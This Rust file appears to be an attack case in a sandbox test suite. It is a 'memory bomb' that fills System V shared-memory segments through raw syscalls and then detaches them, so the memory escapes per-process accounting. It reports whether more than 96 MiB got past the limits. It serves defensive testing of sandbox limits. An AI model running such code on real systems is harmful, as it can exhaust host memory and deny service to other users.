//! attack = "fill System V segments and detach them, so that no process seems to hold memory"
//! kind = "memory bomb"
//! gets = ["memory", "exited 0"]
//! held_by = ["memory limit", "seccomp: loose memory"]

use foe::{SHUT, call, fill, spin, through};
use std::time::Duration;

pub fn main() {
    let mut mib = 0;
    for _ in 0..24 {
        // shmget(IPC_PRIVATE), shmat, shmdt
        let segment = match call(29, &[0, 8 << 20, 0o1600]) {
            Ok(segment) => segment,
            Err(error) if SHUT.contains(&error) => return,
            Err(_) => break,
        };
        let Ok(address) = call(30, &[segment, 0, 0]) else { break };
        fill(address, 8 << 20);
        let _ = call(67, &[address]);
        mib += 8;
        spin(Duration::from_millis(4));
    }
    spin(Duration::from_millis(200));
    if mib > 96 {
        through(format!("{mib} MiB in detached segments"));
    }
}
